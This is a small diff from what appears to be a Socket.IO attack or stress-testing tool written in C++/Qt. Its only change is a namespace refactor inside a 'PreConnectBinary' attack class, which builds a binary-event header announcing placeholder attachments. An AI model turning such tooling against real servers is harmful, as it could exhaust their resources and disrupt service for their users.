@@ -20,7 +20,7 @@ PreConnectBinary::PreConnectBinary(int connections, const AttackTarget &target, 
 {
     QJsonArray args{QStringLiteral("upload")};
     for (int i = 0; i < AnnouncedAttachments; ++i)
-        args.append(sio::placeholder(i));
+        args.append(protocol::sio::placeholder(i));
     // Engine.IO MESSAGE "4", Socket.IO BINARY_EVENT "5", attachment count, namespace "/" omitted
     m_header = QStringLiteral("45") + QString::number(AnnouncedAttachments) + QLatin1Char('-')
                + QString::fromUtf8(QJsonDocument(args).toJson(QJsonDocument::Compact));
